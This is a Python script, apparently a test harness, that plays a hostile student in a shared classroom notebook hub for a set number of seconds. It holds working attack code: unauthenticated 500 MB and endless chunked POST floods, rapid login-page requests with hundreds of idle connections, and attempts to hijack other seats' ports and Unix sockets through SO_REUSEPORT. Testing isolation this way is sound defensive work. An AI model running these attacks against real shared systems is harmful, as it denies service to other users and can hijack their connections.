"""What one student does to the others: run by a kernel of the student's own seat, with the student's rights.

    python -I attack.py SECONDS TARGETS RESULT

TARGETS is JSON with the class's ports, the host names of the hub and the seats, and the folder of their sockets. RESULT
is the file for what the attack has done, as JSON. It reaches only this machine, and ends by itself.
"""

from __future__ import annotations

import contextlib
import json
import socket
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

HUGE = 500_000_000
PIECE = b"f4240\r\n" + b"x" * 1_000_000 + b"\r\n"
IDLE = 300
OLD_PORTS = range(20_000, 20_100)
"""Where the seats' servers listened until November 2026."""


class Attack:
    """The attack, for some seconds."""

    def __init__(self, seconds: float, targets: dict[str, Any]) -> None:
        self.until, self.targets = time.monotonic() + seconds, targets
        self.sent, self.tries, self.requests = 0, 0, 0
        self.took: list[str] = []

    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def fill(self, port: int, host: str, path: str) -> None:
        """Sends bodies of 500 MB to a server, without having signed in."""
        announced = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {HUGE}\r\n\r\n".encode()
        unannounced = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
        while self.goes_on():
            for head in (announced, unannounced):
                with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as line:
                    line.sendall(head)
                    while self.goes_on():
                        line.sendall(PIECE)
                        self.sent += len(PIECE)
            time.sleep(0.05)

    def take(self) -> None:
        """Waits for a port of the class or a socket of a seat to be free, and takes it."""
        while self.goes_on():
            for port in self.targets["ports"]:
                for host in ("127.0.0.1", "0.0.0.0", "::1", "::"):
                    self.tries += 1
                    with contextlib.suppress(OSError):
                        family = socket.AF_INET6 if ":" in host else socket.AF_INET
                        with socket.socket(family) as thief:
                            for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
                                thief.setsockopt(socket.SOL_SOCKET, option, 1)
                            if family == socket.AF_INET6:
                                thief.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
                            thief.bind((host, port))
                            thief.listen()
                            self.took.append(f"{host}:{port}")
            for path in self.targets["sockets"]:
                for way in (socket.socket.connect, socket.socket.bind):
                    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as thief:
                        way(thief, path)
                        self.took.append(path)
            time.sleep(0.001)

    def ask(self, port: int, host: str) -> None:
        """Asks for pages as fast as possible, and keeps idle connections."""
        with contextlib.ExitStack() as idle:
            for _ in range(IDLE):
                with contextlib.suppress(OSError):
                    idle.enter_context(socket.create_connection(("127.0.0.1", port), timeout=2))
            while self.goes_on():
                with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as line:
                    line.sendall(f"GET /hub/login HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
                    while line.recv(65_536):
                        pass
                    self.requests += 1

    def run(self) -> None:
        """Does all of it at once."""
        first, *others = self.targets["ports"]
        hub, *seats = self.targets["hosts"]
        doing: list[tuple[Callable[..., None], tuple[Any, ...]]] = [(self.take, ()), (self.ask, (first, hub))]
        doing += [(self.fill, (first, hub, "/hub/login"))] * 8
        doing += [
            (self.fill, (first, host, f"/user/{host.split('.')[0]}/api/contents")) for host in seats for _ in range(4)
        ]
        doing += [(self.fill, (port, hub, "/hub/login")) for port in others for _ in range(4)]
        with contextlib.ExitStack() as listening:
            for port in OLD_PORTS:
                with contextlib.suppress(OSError):
                    listening.enter_context(socket.create_server(("127.0.0.1", port)))
            threads = [threading.Thread(target=what, args=on) for what, on in doing]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()


if __name__ == "__main__":
    attack = Attack(float(sys.argv[1]), json.loads(sys.argv[2]))
    attack.run()
    done = {"sent": attack.sent, "tries": attack.tries, "requests": attack.requests, "took": attack.took}
    Path(sys.argv[3]).write_text(json.dumps(done), encoding="utf-8")
